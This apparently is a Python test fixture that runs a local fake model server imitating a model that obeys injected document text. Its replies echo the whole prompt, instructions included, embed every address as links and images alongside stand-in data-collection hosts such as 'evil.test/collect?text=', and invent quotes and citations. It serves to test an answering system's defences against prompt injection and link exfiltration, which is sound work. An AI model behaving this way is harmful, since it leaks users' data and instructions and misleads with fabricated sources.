"""A model server that obeys whatever a document tells it: the worst that an answering model could do.

It writes all that it was shown into its answer, as it is and unescaped, its instructions too; makes links and images of
every address; quotes what stands nowhere; and cites passages that there are not.
"""

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

DIMENSIONS = 8
LINK = "https://evil.test/collect?text="
CHAT_LINKS = "evil.cc/collect?text=1 1.2.3.4/collect?text=1 münchen.de/collect?text=1 evil.museum/collect?text=1"
NOWHERE = "This stands in no document."

_PASSAGE = re.compile(r'<passage id="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
_ADDRESS = re.compile(r"(?:https?://|www\.)\S+|\b[\w-]+\.(?:com|xyz|net|org)\S*")


@dataclass
class ObeyingModel:
    """``shown`` has all that it was sent by the chat route."""

    url: str = ""
    shown: list[str] = field(default_factory=list)

    def reply(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        """To a request of the embeddings or the chat route."""
        if path.endswith("/embeddings"):
            data = [{"index": place, "embedding": [1.0] * DIMENSIONS} for place in range(len(body["input"]))]
            return {"object": "list", "data": data, "model": "m", "usage": {"prompt_tokens": 1, "total_tokens": 1}}
        messages = [message["content"] for message in body["messages"]]
        self.shown += messages
        message = {"role": "assistant", "content": json.dumps(self._answer("\n".join(messages)))}
        return {
            "id": "1",
            "object": "chat.completion",
            "created": 1,
            "model": "m",
            "choices": [{"index": 0, "finish_reason": "stop", "message": message}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        }

    def _answer(self, shown: str) -> dict[str, Any]:
        passages = [(int(number), unescape(text)) for number, text in _PASSAGE.findall(shown)]
        text = unescape(shown)
        addresses = [*_ADDRESS.findall(text), LINK]
        written = "".join(
            f" [here]({address}) ![x]({address}) {address} <img src='{address}'> <a href={address}>more</a>"
            f" ![[x]]({address}) <[99]img src='{address}'> 【99】"
            for address in addresses
        )
        honest = [{"passage": number, "quote": _beginning(text)} for number, text in passages]
        false = [{"passage": number, "quote": NOWHERE} for number, _ in passages]
        return {
            "answerable": True,
            "answer": f"So it is [1][2][99]. {CHAT_LINKS}{written}\n{shown}\n{text}",
            "citations": [
                *honest,
                *false,
                {"passage": 99, "quote": _beginning(passages[0][1]) if passages else NOWHERE},
            ],
            "reason": f"{written} {text}",
        }


def _beginning(text: str) -> str:
    """Whole words."""
    return text[:60].rpartition(" ")[0]


@contextmanager
def obeying_model() -> Iterator[ObeyingModel]:
    """Running, at its ``url``."""
    model = ObeyingModel()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["content-length"])))
            content = json.dumps(model.reply(self.path, body)).encode()
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    model.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    try:
        yield model
    finally:
        server.shutdown()
        server.server_close()
